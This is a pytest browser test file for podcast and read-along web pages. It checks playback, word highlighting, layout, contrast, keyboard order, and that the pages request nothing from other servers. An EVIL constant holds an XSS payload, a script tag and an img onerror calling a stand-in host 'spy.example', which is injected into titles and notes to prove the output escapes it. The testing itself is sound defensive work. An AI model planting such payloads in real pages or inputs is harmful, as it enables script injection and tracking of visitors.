"""The pages in a real browser: they play, ask no other server, and have nothing to complain of."""

import wave
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import urlsplit

import numpy as np
import pytest

from audiomill.flows.podcast.feed_server import serving_feed
from audiomill.outputs.pages.html_tree import element
from audiomill.outputs.podcast.publishing import publish_show
from audiomill.outputs.podcast.show import Enclosure
from audiomill.outputs.readalong.web.contents import contents
from audiomill.outputs.readalong.web.recorded_text import RecordedText, dumped, recorded_section
from support.chromium import BROWSER, LEAST_CONTRAST, Tab, browsing
from support.podcast_data import FAILED, SHOW, local, numbered, put_files
from support.prefect_api import free_port

pytestmark = [pytest.mark.prove, pytest.mark.skipif(BROWSER is None, reason="no Chromium")]
RATE = 8000
DURATION_S = 3.0
STARTS_S = {"Then": 1.2, "somebody": 1.3, "did": 2.1, "wrote": 2.3, "it": 2.5}
EVIL = "<script>fetch('https://spy.example/')</script><img src=https://spy.example/x onerror=y>"


def spoken_text() -> RecordedText:
    """The words of STARTS_S in a clip, after another one."""
    said, edges_ms = [*STARTS_S], [round(1000 * at) for at in STARTS_S.values()]
    times = zip(said, [edges_ms[0], *edges_ms], edges_ms, strict=False)
    words = [
        one
        for at, (word, before, ms) in enumerate(times)
        for one in (at > 0, len(word), ms - before)
    ]
    spans = [
        element("span", {"id": "s0"}, "Before. "),
        element("span", {"id": "s1"}, " ".join(said)),
    ]
    clips = [(0, 0, edges_ms[0], ()), (0, edges_ms[0], round(1000 * DURATION_S), words)]
    return RecordedText("en", contents([]), recorded_section([element("p", {}, *spans)], clips))


@pytest.fixture(scope="module")
def tab(tmp_path_factory) -> Iterator[Tab]:
    with browsing(tmp_path_factory.mktemp("profile")) as tab:
        yield tab


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    """A show of one episode with three seconds of sound, whose texts try to run something."""
    folder = tmp_path_factory.mktemp("show")
    audio = folder / "audio" / "one.wav"
    audio.parent.mkdir()
    with wave.open(str(audio), "wb") as file:
        file.setparams((1, 2, RATE, 0, "NONE", ""))
        sine = np.sin(np.arange(int(DURATION_S * RATE)) / 5) * 9000
        file.writeframes(sine.astype("<i2").tobytes())
    episode = numbered(
        1, summary=EVIL, show_notes_html=f"<p>Notes{EVIL}</p>", duration_s=DURATION_S
    )
    sound = Enclosure("audio/one.wav", audio.stat().st_size, "audio/wav")
    spoken = numbered(2, chapters=(), text="audio/two.text.json")
    put_files(folder, SHOW, [episode, spoken])
    local(folder).add_names(["cover.jpg"])
    (folder / spoken.text).write_bytes(dumped(spoken_text()))
    other = audio.with_name("two.wav")
    other.write_bytes(audio.read_bytes())
    show = replace(SHOW, title=f"Mill{EVIL}", description=EVIL)
    publish_show(
        local(folder),
        show,
        [
            replace(episode, enclosure=sound),
            replace(spoken, enclosure=replace(sound, name="audio/two.wav")),
        ],
        [replace(FAILED, reason=EVIL)],
    )
    return folder


@pytest.fixture(params=["from a disk", "from a server"])
def address(request, folder) -> Iterator[str]:
    if request.param == "from a disk":
        yield folder.as_uri()
        return
    port = free_port()
    address = f"http://127.0.0.1:{port}/"
    with serving_feed(folder, address, "127.0.0.1", port):
        yield address.removesuffix("/")


def assert_is_quiet(tab: Tab, address: str) -> None:
    """Nothing was asked of others, and the console is empty."""
    ours = urlsplit(address)
    for url in map(urlsplit, tab.requested):
        assert url.scheme == "data" or (url.scheme, url.netloc) == (ours.scheme, ours.netloc)
    assert tab.complaints == []


def event_of_audio(kind: str) -> str:
    return f"new Promise(done => document.querySelector('audio').addEventListener('{kind}', done))"


def test_the_page_of_a_show_plays(tab, address):
    tab.open(f"{address}/index.html")
    assert tab.value("document.querySelector('h1').innerText") == f"Mill{EVIL}"
    assert tab.value("document.querySelector('img.cover').naturalWidth") > 0
    assert tab.value("document.querySelector('audio').readyState") == 0  # nothing loaded so far
    tab.value(
        f"(() => {{ const ended = {event_of_audio('ended')};"
        "return document.querySelector('audio').play().then(() => ended).then(() => 1) })()"
    )
    assert abs(tab.value("document.querySelector('audio').duration") - DURATION_S) < 0.01
    assert_is_quiet(tab, address)


VOICE = "document.getElementById('voice')"
LIT = "[...document.querySelectorAll('.lit')].map((one) => one.innerText).join(' ')"


def until(expression: str) -> str:
    """A promise of the value of an expression, as soon as it is true."""
    return (
        f"new Promise((done) => {{ const look = () => {{ const is = {expression};"
        " is ? done(is) : setTimeout(look, 5) }; look() })"
    )


def test_the_page_of_an_episode_plays_from_its_chapters(tab, address):
    tab.open(f"{address}/audio/one.html")
    tab.value(f"{until(LIT)}.then(() => document.querySelectorAll('#contents a')[1].click())")
    lit = tab.value(until(f"{VOICE}.currentTime >= 1.8 && {LIT}"))
    assert lit == "Then somebody did & wrote it down."
    tab.value("document.getElementById('play').click()")
    tab.value(until(f"{VOICE}.ended && document.querySelector('#play[aria-label=Play]') && 1"))
    assert tab.value("document.querySelector('#contents [aria-current]').innerText") == "Middle"
    assert_is_quiet(tab, address)


def test_the_word_that_sounds_is_marked_and_each_is_a_place_to_play_from(tab, address):
    tab.open(f"{address}/audio/two.html")
    seen = tab.value(
        f"""{until(LIT)}.then(() => new Promise((done) => {{
            const seen = [];
            const look = () => {{
                const [word] = CSS.highlights.get('word');
                if (word && !{VOICE}.paused) seen.push([String(word), {VOICE}.currentTime]);
                {VOICE}.ended ? done(seen) : requestAnimationFrame(look);
            }};
            const word = document.createRange(), text = document.getElementById('s1').firstChild;
            word.setStart(text, 6);
            word.setEnd(text, 7);
            text.parentElement.scrollIntoView({{block: 'center'}});
            const {{left, top, width, height}} = word.getBoundingClientRect();
            const at = {{clientX: left + width / 2, clientY: top + height / 2, bubbles: true}};
            text.parentElement.dispatchEvent(new MouseEvent('click', at));
            look();
        }}))"""
    )
    marked = list(dict.fromkeys(word for word, _ in seen))
    assert marked == sorted(marked, key=lambda word: STARTS_S[word])
    assert (marked[0], marked[-1], "Then" in marked) == ("somebody", "it", False)
    assert all(at >= STARTS_S[word] - 0.02 for word, at in seen)
    assert_is_quiet(tab, address)


def test_the_address_of_the_feed_is_there_to_copy(tab, address):
    tab.open(f"{address}/index.html")
    tab.value(
        "new Promise(done => { new MutationObserver(done).observe("
        "document.querySelector('[role=status]'), {childList: true});"
        "document.querySelector('button').click() }).then(() => 1)"
    )
    assert tab.value("String(getSelection())") == SHOW.feed_url
    assert_is_quiet(tab, address)


@pytest.mark.parametrize(("width", "height"), [(360, 740), (1280, 800)])
@pytest.mark.parametrize("dark", [False, True])
def test_pages_fit_their_screen_and_can_be_read(tab, folder, width, height, dark):
    tab.set_screen(width, height, dark=dark)
    for page in ("index.html", "audio/one.html"):
        tab.open(f"{folder.as_uri()}/{page}")
        assert tab.value("document.documentElement.scrollWidth") <= width
        assert tab.value(LEAST_CONTRAST) >= 4.5  # WCAG 2.2, 1.4.3


def test_every_control_is_reached_by_keyboard_in_the_order_of_the_page(tab, folder):
    tab.open(f"{folder.as_uri()}/audio/one.html")
    reached = []
    for _ in range(14):
        tab.press("Tab")
        reached.append(
            tab.value(
                "(({id, title, innerText}) => id || title || innerText)(document.activeElement)"
            )
        )
    assert reached[:2] == ["To the text", "Contents (c)"]
    assert reached.index("position") < reached.index("play") < reached.index(f"Mill{EVIL}")
